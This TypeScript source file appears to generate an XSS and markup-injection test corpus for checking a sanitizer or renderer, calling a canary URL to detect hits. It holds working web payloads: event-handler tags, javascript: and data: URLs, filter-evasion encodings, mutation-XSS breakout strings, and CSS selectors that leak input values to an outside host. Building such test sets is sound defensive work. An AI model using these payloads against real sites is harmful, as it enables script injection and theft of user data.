import { product } from "./product.ts";

const tags =
  "img svg body div a input video audio details iframe marquee object select style textarea math button form table p span b i u ul li hr br label img/ image isindex keygen meter progress output fieldset summary dialog canvas embed link meta base template slot x-own bdo ruby".split(
    " ",
  );
const events =
  "onerror onload onclick onmouseover onfocus onpointerenter onanimationstart ontoggle onbegin onbeforeinput onpageshow onscroll ontransitionend oncut onwheel onauxclick onbeforematch onplay onkeydown oncopy oninvalid onsubmit onresize onhashchange".split(
    " ",
  );

/** What is asked of a browser that takes text for markup: elements with handlers, addresses, styles, and ways out of others. */
export function markupStrings(canary: string): string[] {
  const run = `globalThis.suretyHit=1;alert(1);fetch('${canary}/run')`;
  return [
    ...product(tags, events, (tag, event) => `<${tag} ${event}="${run}" src=x tabindex=1 autofocus>${tag} ${event}`),
    ...product(scripts(canary, run), spellings, (script, spell) => spell(script)),
    ...product(carriers, addresses(canary, run), (carrier, address) => carrier.replace("URL", address)),
    ...styles(canary).flatMap((style) => [
      `<style>${style}</style>`,
      `<div style="${style.replaceAll('"', "'")}">styled</div>`,
      `</style><style>${style}`,
    ]),
    ...product(
      doors,
      [`<script>${run}</script>`, `<img src=x onerror="${run}">`, `<svg onload="${run}">`],
      (door, out) => door.replace("OUT", out),
    ),
    ...entities.flatMap((entity) => [entity, `<b>${entity}</b>`, `"${entity}" onmouseover=${entity}`]),
  ];
}

const scripts = (canary: string, run: string): string[] => [
  `<script>${run}</script>`,
  `<script src="${canary}/script.js"></script>`,
  `<script type=module>import "${canary}/module.js"</script>`,
  `<svg><script>${run}</script></svg>`,
  `<img src=x onerror=${run}>`,
];

/** The same said so that a filter of words does not see it. */
const spellings: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => text.replaceAll("script", "scr<script>ipt"),
  (text) => text.replaceAll("<", "<\t"),
  (text) => text.replaceAll("<", "<\n/"),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&amp;lt;"),
  (text) => text.replaceAll("<", "&#60;").replaceAll(">", "&#62;"),
  (text) => text.replaceAll("<", "&#x3c").replaceAll(">", "&#x3e"),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (text) => text.replaceAll("<", "\\x3c"),
  (text) => text.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (text) => text.replaceAll("<", "\uFF1C").replaceAll(">", "\uFF1E"),
  (text) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (text) => `<![CDATA[${text}]]>`,
  (text) => `<!--><${text}-->`,
];

const carriers = [
  '<img src="URL">',
  '<img srcset="URL 1x, URL 2x">',
  '<picture><source srcset="URL"><img></picture>',
  '<iframe src="URL"></iframe>',
  '<iframe srcdoc="<img src=URL>"></iframe>',
  '<object data="URL"></object>',
  '<embed src="URL">',
  '<link rel=stylesheet href="URL">',
  '<link rel="prefetch dns-prefetch preconnect" href="URL">',
  '<base href="URL">',
  '<form action="URL"><button autofocus>Go on</button></form>',
  '<button formaction="URL">Go on</button>',
  '<a href="URL" ping="URL">a link</a>',
  '<area href="URL">',
  '<video src="URL" poster="URL" autoplay></video>',
  '<audio src="URL" autoplay></audio>',
  '<track src="URL">',
  '<input type=image src="URL">',
  '<body background="URL">',
  '<table background="URL"><td>cell</td></table>',
  '<meta http-equiv=refresh content="0;url=URL">',
  '<svg><image href="URL"/><use href="URL#a"/></svg>',
  '<svg><a xlink:href="URL"><text y=20>text</text></a></svg>',
  '<svg><animate attributeName=href values="URL"/></svg>',
  '<math href="URL"><mi>x</mi></math>',
  '<portal src="URL"></portal>',
  '<frameset><frame src="URL"></frameset>',
  "![a picture](URL)",
  "[a link](URL)",
  "[ref]: URL\n![][ref]",
  "<URL>",
  "URL",
];

const addresses = (canary: string, run: string): string[] => [
  `${canary}/loaded.png`,
  canary.replace(/^http:/, ""),
  canary.replace("//", "/\t/"),
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `&#106;avascript:${run}`,
  ` \u0001javascript:${run}`,
  `data:text/html,<script>${run.replaceAll('"', "'")}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString("base64")}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run.replaceAll("'", "`")}'/>`,
  `vbscript:msgbox(1)`,
  `blob:${canary}/1`,
  `filesystem:${canary}/temporary/1`,
  `view-source:${canary}`,
];

const styles = (canary: string): string[] => [
  `@import url("${canary}/import.css");`,
  `@font-face{font-family:x;src:url("${canary}/font.woff2")} *{font-family:x!important}`,
  `*{background:url("${canary}/back.png")!important}`,
  `body{display:none!important}`,
  `*{position:fixed!important;inset:0;z-index:99999}`,
  `main{transform:scale(9);width:900vw}`,
  `input[value^=a]{background:url("${canary}/leak-a")}`,
  `*::before{content:url("${canary}/before")}`,
  `*{cursor:url("${canary}/cursor"),auto}`,
  `li{list-style:url("${canary}/list")}`,
  `*{border-image:url("${canary}/border") 1}`,
  `*{mask:url("${canary}/mask");filter:url("${canary}/filter#a")}`,
  `:root{--canvas:red;--ink:red}`,
  `*{animation:spin 1ms infinite;width:expression(alert(1))}`,
  `@namespace url("${canary}/namespace");`,
];

const doors = [
  "OUT",
  '">OUT',
  "'>OUT",
  "`>OUT",
  "</title>OUT",
  "</textarea>OUT",
  "</script>OUT",
  "</style>OUT",
  "</noscript>OUT",
  "</iframe>OUT",
  "</xmp>OUT",
  "</template>OUT",
  "</option></select>OUT",
  "-->OUT",
  "]]>OUT",
  "</body></html>OUT",
  "</svg></math>OUT",
  "<noscript><p title='</noscript>OUT'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;OUT'>",
  "<svg><desc><table><tr><td><title><a id='</title>OUT'>",
  "<form><math><mtext></form><form><mglyph><style></math>OUT",
  "<select><template><style><!--</style><a rel='--></style></template></select>OUT'>",
  "<a title='\nOUT\n'>",
  "<template>OUT</template>",
  "<plaintext>OUT",
  "<listing>OUT",
  "<table><caption>OUT<table>",
  "<details open ontoggle=0>OUT",
  "<dialog open>OUT</dialog>",
  "<x-element is=y>OUT</x-element>",
];

const entities =
  "&lt;script&gt; &#60;script&#62; &#x3C;b&#x3E; &amp;amp; &nbsp; &zwj; &NewLine; &Tab; &colon; &lpar; &#0; &#xFFFFFFFF; &#128; &bogus; &copy &notit; &#x202E; &ZeroWidthSpace; &quot; &apos; &DoubleLongLeftRightArrow; &CounterClockwiseContourIntegral;".split(
    " ",
  );
